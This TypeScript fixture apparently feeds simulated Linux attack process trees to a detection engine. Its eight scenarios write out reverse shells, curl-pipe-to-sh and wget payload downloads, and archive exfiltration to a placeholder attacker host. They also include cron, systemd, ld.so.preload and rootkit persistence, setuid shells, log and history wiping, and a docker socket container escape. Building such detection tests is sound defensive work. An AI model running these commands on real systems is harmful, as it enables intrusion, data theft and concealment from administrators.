import { OUT, run, sh, type Work } from './step.fixture';

export const FIRST_INTRUSIONS: readonly Work[] = [
  {
    name: 'cron from a piped script',
    host: 'db-01',
    user: ['root', '0'],
    steps: [
      sh(1, 0, `curl -fsSL http://${OUT}/i.sh | sh`),
      run(2, 1, `curl -fsSL http://${OUT}/i.sh`, { connects: [[OUT, 80]] }),
      { id: 3, by: 1, image: '/usr/bin/dash', argv: ['sh'] },
      run(4, 3, `wget -q http://${OUT}/u -O /usr/local/bin/sysupd`, {
        connects: [[OUT, 80]],
        creates: ['/usr/local/bin/sysupd'],
      }),
      run(5, 3, 'chmod 755 /usr/local/bin/sysupd', { chmods: [['/usr/local/bin/sysupd', '0755']] }),
      run(6, 3, 'tee /etc/cron.d/sysupd', { creates: ['/etc/cron.d/sysupd'] }),
      run(7, 3, 'crontab -', { creates: ['/var/spool/cron/crontabs/root'] }),
      run(8, 3, '/usr/local/bin/sysupd -d', { connects: [[OUT, 8443]] }),
    ],
  },
  {
    name: 'web shell to remote shell',
    host: 'web-01',
    user: ['www-data', '33'],
    steps: [
      sh(1, 0, 'id; uname -a; cat /etc/passwd'),
      run(2, 1, 'id'),
      run(3, 1, 'cat /etc/passwd'),
      sh(
        4,
        0,
        'python3 -c "import socket,os,pty;s=socket.socket();s.connect((0,1));os.dup2(s.fileno(),0);pty.spawn(1)"',
      ),
      {
        id: 5,
        by: 4,
        image: '/usr/bin/python3.11',
        argv: [
          'python3',
          '-c',
          `import socket,os,pty;s=socket.socket();s.connect(("${OUT}",443));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`,
        ],
        connects: [[OUT, 443]],
      },
      { id: 6, by: 5, image: '/usr/bin/dash', argv: ['/bin/sh'] },
      run(7, 6, 'find / -perm -4000 -type f'),
      run(8, 6, 'cat /etc/shadow'),
    ],
  },
  {
    name: 'keys, staging and sending',
    host: 'ci-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['-bash'] },
      run(2, 1, 'cat /etc/shadow'),
      run(3, 1, 'tee -a /root/.ssh/authorized_keys', { creates: ['/root/.ssh/authorized_keys'] }),
      run(4, 1, 'tar czf /dev/shm/.s.tgz /home /etc', { creates: ['/dev/shm/.s.tgz'] }),
      run(5, 1, `curl -s -T /dev/shm/.s.tgz http://${OUT}/`, { connects: [[OUT, 80]] }),
      run(6, 1, 'rm -f /dev/shm/.s.tgz /root/.bash_history'),
      run(7, 1, 'useradd -o -u 0 support'),
    ],
  },
  {
    name: 'preload and kernel module',
    host: 'db-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['-bash'] },
      run(2, 1, 'gcc -shared -fPIC -o /usr/lib/libsys.so.1 x.c', {
        cwd: '/var/tmp/.w',
        creates: ['/usr/lib/libsys.so.1'],
      }),
      sh(3, 1, 'echo /usr/lib/libsys.so.1 > /etc/ld.so.preload', { creates: ['/etc/ld.so.preload'] }),
      { id: 4, by: 1, image: '/usr/bin/kmod', argv: ['insmod', './rk.ko'], cwd: '/var/tmp/.w' },
      run(5, 1, 'chattr +i /etc/ld.so.preload'),
      run(6, 1, 'systemctl stop auditd'),
      run(7, 1, 'touch -r /bin/ls /usr/lib/libsys.so.1'),
    ],
  },
  {
    name: 'from memory',
    host: 'web-01',
    user: ['www-data', '33'],
    steps: [
      sh(1, 0, `echo cGVybA== | base64 -d | perl`),
      run(2, 1, 'base64 -d'),
      {
        id: 3,
        by: 1,
        image: '/usr/bin/perl',
        argv: ['perl', '-e', 'syscall(319,$n,1);exec {"/proc/$$/fd/3"} "nginx"'],
      },
      { id: 4, by: 3, image: '/memfd:x (deleted)', argv: ['nginx: worker process'], connects: [[OUT, 443]] },
      run(5, 4, 'nproc'),
    ],
  },
  {
    name: "a user's own unit",
    host: 'ws-alice',
    user: ['alice', '20001'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash', '-l'] },
      run(2, 1, `curl -s -o /home/alice/.local/share/.upd/agent http://${OUT}/a`, {
        connects: [[OUT, 80]],
        creates: ['/home/alice/.local/share/.upd/agent'],
      }),
      run(3, 1, 'chmod +x /home/alice/.local/share/.upd/agent', {
        chmods: [['/home/alice/.local/share/.upd/agent', '0755']],
      }),
      run(4, 1, 'tee /home/alice/.config/systemd/user/upd.service', {
        creates: ['/home/alice/.config/systemd/user/upd.service'],
      }),
      run(5, 1, 'systemctl --user enable --now upd.service'),
      run(6, 1, '/home/alice/.local/share/.upd/agent', { connects: [[OUT, 9001]] }),
    ],
  },
  {
    name: 'setuid shell, traces removed',
    host: 'ws-bob',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash', '-i'] },
      run(2, 1, 'cp /bin/bash /var/tmp/.b', { creates: ['/var/tmp/.b'] }),
      run(3, 1, 'chmod 4755 /var/tmp/.b', { chmods: [['/var/tmp/.b', '4755']] }),
      { id: 4, by: 1, image: '/var/tmp/.b', argv: ['/var/tmp/.b', '-p'] },
      run(5, 4, 'rm -f /var/log/auth.log'),
      sh(6, 4, 'unset HISTFILE; history -c'),
    ],
  },
  {
    name: 'tunnel and container escape',
    host: 'ci-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash'] },
      run(2, 1, `curl -s --unix-socket /var/run/docker.sock http://x/containers/json`),
      run(3, 1, 'nsenter -t 1 -m -u -i -n -p sh'),
      run(4, 3, `ssh -f -N -R 2222:localhost:22 eve@${OUT}`, { connects: [[OUT, 22]] }),
      run(5, 3, `socat TCP:${OUT}:443 EXEC:/bin/sh`, { connects: [[OUT, 443]] }),
      run(6, 3, 'crontab -', { creates: ['/var/spool/cron/crontabs/root'] }),
    ],
  },
];
